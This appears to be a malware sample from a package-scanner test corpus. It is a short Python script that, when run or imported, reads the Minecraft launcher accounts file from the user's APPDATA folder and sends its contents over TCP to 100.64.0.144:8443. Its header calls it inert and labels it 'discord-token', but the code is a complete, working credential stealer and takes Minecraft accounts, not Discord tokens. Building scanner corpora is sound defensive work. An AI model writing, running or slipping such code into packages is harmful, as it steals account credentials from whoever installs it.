# pkgguard corpus 444 (discord-token), modelled on [discordpydebug]; inert, never run.
import asyncio
import json
import os


async def _ship():
    path = os.path.join(os.environ.get("APPDATA", ""), ".minecraft", "launcher_accounts.json")
    with open(path, encoding="utf-8") as handle:
        accounts = json.load(handle)
    reader, writer = await asyncio.open_connection("100.64.0.144", 8443)
    writer.write(json.dumps(accounts).encode())
    await writer.drain()
    writer.close()


asyncio.run(_ship())
